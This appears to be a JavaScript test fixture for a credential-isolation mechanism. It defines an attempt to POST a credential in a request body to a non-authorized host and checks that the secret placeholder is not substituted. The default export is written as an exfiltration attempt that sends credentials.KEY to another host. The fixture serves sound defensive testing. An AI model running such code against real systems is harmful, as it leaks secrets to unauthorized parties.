export const attempt = {
  tries: "to send a credential to another host in a body",
  blockedBecause: "a placeholder in a body to another host is not substituted",
  seen: ["POST /body"],
  ends: { says: "refused" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
};

export default async ({ other }, { credentials }) => {
  const answer = await fetch(`http://${other}/body`, { method: "POST", body: credentials.KEY });
  return (await answer.json()).body === credentials.KEY ? "refused" : "got through";
};
